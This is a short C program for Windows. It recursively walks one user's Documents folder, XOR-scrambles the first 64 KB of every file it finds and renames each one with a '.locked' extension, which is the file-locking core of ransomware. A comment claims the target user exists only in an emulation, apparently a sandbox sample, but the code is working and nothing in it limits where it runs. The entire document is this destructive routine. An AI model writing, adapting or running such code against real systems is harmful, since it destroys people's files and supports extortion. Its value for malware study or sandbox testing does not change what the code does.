/* Rewrites the documents of one user, who exists in the emulation only. */
#include <windows.h>
#include <stdio.h>
static void change(const char *path) {
    char name[600];
    DWORD got, written;
    static unsigned char data[65536];
    HANDLE file = CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (file == INVALID_HANDLE_VALUE) return;
    ReadFile(file, data, sizeof data, &got, NULL);
    for (DWORD i = 0; i < got; i++) data[i] = (unsigned char)(data[i] ^ (0x5A + i * 7));
    SetFilePointer(file, 0, NULL, FILE_BEGIN);
    WriteFile(file, data, got, &written, NULL);
    CloseHandle(file);
    snprintf(name, sizeof name, "%s.locked", path);
    MoveFileExA(path, name, MOVEFILE_REPLACE_EXISTING);
}
static void walk(const char *folder) {
    char pattern[600], path[600];
    WIN32_FIND_DATAA found;
    snprintf(pattern, sizeof pattern, "%s\\*", folder);
    HANDLE search = FindFirstFileA(pattern, &found);
    if (search == INVALID_HANDLE_VALUE) return;
    do {
        if (found.cFileName[0] == '.') continue;
        snprintf(path, sizeof path, "%s\\%s", folder, found.cFileName);
        if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) walk(path);
        else change(path);
    } while (FindNextFileA(search, &found));
    FindClose(search);
}
int main(void) {
    walk("C:\\Users\\anna\\Documents");
    return 0;
}
